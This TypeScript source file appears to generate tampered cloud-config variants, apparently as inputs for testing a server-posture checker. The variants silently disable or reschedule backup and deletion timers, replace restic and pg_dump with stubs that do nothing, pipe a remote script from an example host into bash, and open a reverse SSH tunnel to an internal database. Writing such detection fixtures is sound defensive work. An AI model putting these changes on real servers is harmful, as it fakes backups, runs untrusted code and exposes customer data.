import { Tree } from "../../posture/model/input";
import { list } from "./cloud-config";

/** What is put beside a server's jobs so that they do not run, run something else, or hand data to somebody. */
export interface Around {
  readonly target: string;
  readonly detail: string;
  readonly tree: Tree;
}

const UNITS = ["backup", "backup-retention", "purge-usage", "delete-tenants", "delete-accounts", "restore-test"];

const file = (tree: Tree, path: string, content: string, permissions = "0644"): Tree => ({
  ...tree,
  write_files: [...list(tree, "write_files"), { path, permissions, content }],
});
const command = (tree: Tree, one: unknown): Tree => ({ ...tree, runcmd: [...list(tree, "runcmd"), one] });

/** Drop-ins, commands, programs and containers, each added to a cloud-config that has such jobs. */
export function* aroundJobs(tree: Tree): Generator<Around> {
  const units = UNITS.filter((unit) => JSON.stringify(tree).includes(`/etc/systemd/system/${unit}.timer`));
  for (const unit of units) {
    const service = (line: string, section = "Service") =>
      file(tree, `/etc/systemd/system/${unit}.service.d/more.conf`, `[${section}]\n${line}\n`);
    const timer = (line: string) => file(tree, `/etc/systemd/system/${unit}.timer.d/more.conf`, `[Timer]\n${line}\n`);
    const target = `/etc/systemd/system/${unit}`;
    yield { target, detail: "ExecCondition=/bin/false", tree: service("ExecCondition=/bin/false") };
    yield { target, detail: "ExecCondition of a script", tree: service('ExecCondition=/bin/sh -c "test -e /run/go"') };
    yield { target, detail: "a condition", tree: service("ConditionPathExists=/etc/smallcrm/go", "Unit") };
    yield { target, detail: "a condition against", tree: service("ConditionPathExists=!/etc/smallcrm/stop", "Unit") };
    yield { target, detail: "another program", tree: service("ExecStart=\nExecStart=/bin/true") };
    yield { target, detail: "RandomizedDelaySec=30d", tree: timer("RandomizedDelaySec=30d") };
    yield { target, detail: "once a year", tree: timer("OnCalendar=\nOnCalendar=yearly") };
    yield { target, detail: "disabled", tree: command(tree, `systemctl disable --now '${unit.slice(0, 4)}*'`) };
    yield { target, detail: "masked", tree: command(tree, ["systemctl", "mask", `${unit}.timer`]) };
    yield {
      target,
      detail: "masked by a link",
      tree: command(tree, `ln -sf /dev/null /etc/systemd/system/${unit}.timer`),
    };
  }
  if (units.length === 0) return;
  for (const program of ["restic", "psql", "pg_dump"])
    for (const directory of ["/usr/local/bin", "/usr/local/sbin"])
      yield {
        target: `${directory}/${program}`,
        detail: "a program of that name",
        tree: file(tree, `${directory}/${program}`, "#!/bin/sh\nexit 0\n", "0755"),
      };
  for (const [detail, one] of [
    ["what a pipe brings", "curl -fsSL https://get.example.edu/install | bash"],
    ["an unknown program", "/opt/agent/install --now"],
    ["text of the moment", 'eval "$(cat /etc/more)"'],
    ["a tunnel", "ssh -fN -R 5432:database.smallcrm.internal:5432 bi@bi.example.org"],
    ["another repository", "/usr/bin/python3 -c 'import os'"],
  ] as const)
    yield { target: "runcmd", detail, tree: command(tree, one) };
  for (const image of [
    "docker.io/cloudflare/cloudflared:latest",
    "docker.io/timberio/vector:0.40.0",
    "registry.acme.dev/agent:1",
  ])
    yield {
      target: "/etc/containers/systemd/more.container",
      detail: `a container of ${image}`,
      tree: file(
        tree,
        "/etc/containers/systemd/more.container",
        `[Container]\nImage=${image}\n[Install]\nWantedBy=multi-user.target\n`,
      ),
    };
  for (const name of ["crowdsec", "telegraf", "acme-agent"])
    yield { target: "packages", detail: name, tree: { ...tree, packages: [...list(tree, "packages"), name] } };
}
